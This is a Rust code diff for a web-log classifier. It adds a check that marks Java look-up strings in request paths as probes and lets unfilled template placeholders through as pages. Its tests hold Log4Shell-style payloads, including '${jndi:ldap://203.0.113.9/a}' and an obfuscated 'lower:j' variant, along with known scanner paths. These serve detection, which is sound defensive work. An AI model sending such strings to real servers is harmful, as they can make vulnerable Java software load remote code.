@@ -67,8 +67,7 @@ pub fn of_path(path: &[u8]) -> Shape {
     if path.first() != Some(&b'/') || has_control(path) {
         return shape(Kind::Foreign, path.len());
     }
-    // Java's look-ups, which a server's log may work out.
-    if memchr::memmem::find(path, b"${").is_some() {
+    if has_look_up(path) {
         return shape(Kind::Probe, path.len());
     }
     if let Some(end) = probe_end(path) {
@@ -83,6 +82,15 @@ pub fn of_path(path: &[u8]) -> Shape {
         kind => kind,
     };
     shape(kind, path.len())
+}
+
+/// Whether a path holds a look-up of Java's, which whatever logs it may work out: `${jndi:…}`, `${::-j}`. A page whose template was
+/// not filled in asks for `${post.slug}`, without the name of what is looked up.
+fn has_look_up(path: &[u8]) -> bool {
+    memchr::memmem::find_iter(path, b"${").any(|at| {
+        let inner = &path[at + 2..];
+        inner.get(inner.iter().take_while(|byte| byte.is_ascii_alphabetic()).count()) == Some(&b':')
+    })
 }
 
 /// Backups lie where the site does: `/site.zip`, `/backup/site.zip`.
@@ -141,9 +149,8 @@ pub(crate) fn is_article(path: &[u8]) -> bool {
 /// Whether a path names an item by something that nobody can guess, a hash or a UUID: who asks for it was told of it by a page,
 /// and when it is gone, that is a broken picture and no word of a list. Not behind a script, which answers whatever follows it.
 pub(crate) fn is_unguessable(path: &[u8]) -> bool {
-    let behind_script =
-        || segments(path).any(|name| matches!(kind_by_ending(name), Kind::Script | Kind::Dubious));
-    template::names_an_item(path) && !behind_script()
+    template::names_an_item(path)
+        && !segments(path).any(|name| matches!(kind_by_ending(name), Kind::Script | Kind::Dubious))
 }
 
 /// Whether a path at the root is one that browsers, crawlers and previews ask every site for, whether it has it or not: an icon,
@@ -234,7 +241,7 @@ fn bytes_of(text: &[u8]) -> [bool; 256] {
 }
 
 /// Searches for a text only if its rarest byte occurs: nearly every query has none of them.
-fn holds(text: &[u8], seen: &[bool; 256], probes: &[(u8, &[u8])]) -> bool {
+pub(super) fn holds(text: &[u8], seen: &[bool; 256], probes: &[(u8, &[u8])]) -> bool {
     probes.iter().any(|(rare, probe)| seen[usize::from(*rare)] && memchr::memmem::find(text, probe).is_some())
 }
 
@@ -552,9 +559,16 @@ mod tests {
     #[test]
     fn kinds_of_paths() {
         let check = |path: &str, kind: Kind| assert_eq!(of_path(path.as_bytes()).kind, kind, "{path}");
-        for page in
-            ["/", "/about", "/.well-known/acme-challenge/x", "*", "/wp-admin/", "/a/b/c/.github/workflows/x"]
-        {
+        for page in [
+            "/posts/${post.slug}",
+            "/${image}",
+            "/",
+            "/about",
+            "/.well-known/acme-challenge/x",
+            "*",
+            "/wp-admin/",
+            "/a/b/c/.github/workflows/x",
+        ] {
             check(page, Kind::Page);
         }
         check("/debian/dists/stable/main/i18n/Translation-en.xz", Kind::Asset);
@@ -576,6 +590,9 @@ mod tests {
             "/blog/wp-includes/wlwmanifest.xml",
             "/phpMyAdmin/index.php",
             "/vendor/phpunit/phpunit/src/Util/PHP/eval-stdin.php",
+            "/${jndi:ldap://203.0.113.9/a}",
+            "/x/${${lower:j}ndi:dns://203.0.113.9}",
+            "/${::-j}",
         ] {
             check(probe, Kind::Probe);
         }
